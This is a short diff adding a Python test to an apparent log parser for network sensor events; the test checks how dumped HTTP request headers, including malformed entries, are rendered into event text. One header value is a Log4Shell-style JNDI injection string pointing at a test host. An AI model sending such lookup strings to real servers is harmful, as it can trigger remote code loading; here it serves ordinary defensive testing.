@@ -39,6 +39,14 @@ def test_the_columns(read) -> None:
     assert event.items() >= wanted.items()
 
 
+def test_headers_are_told_where_they_are_dumped_and_strange(read) -> None:
+    dumped = [{"name": "Accept", "value": "*/*"}, {"name": "X-Api-Version", "value": "${jndi:ldap://a.test}"}, 7]
+    event = one(read, "http", http={"url": "/", "http_method": "GET", "request_headers": dumped})
+    assert event["text"] == "HTTP GET / headers=x-api-version: ${jndi:ldap://a.test}"
+    event = one(read, "http", http={"url": "/", "http_method": "GET", "request_headers": "none"})
+    assert event["text"] == "HTTP GET /"
+
+
 ANSWERS = [{"rrname": "a.test", "rrtype": "CNAME", "ttl": 900, "rdata": "b.test"}, {"ttl": 60, "rdata": "192.0.2.9"}]
 NAMED = {"rrname": "a.test", "rrtype": "A"}
 
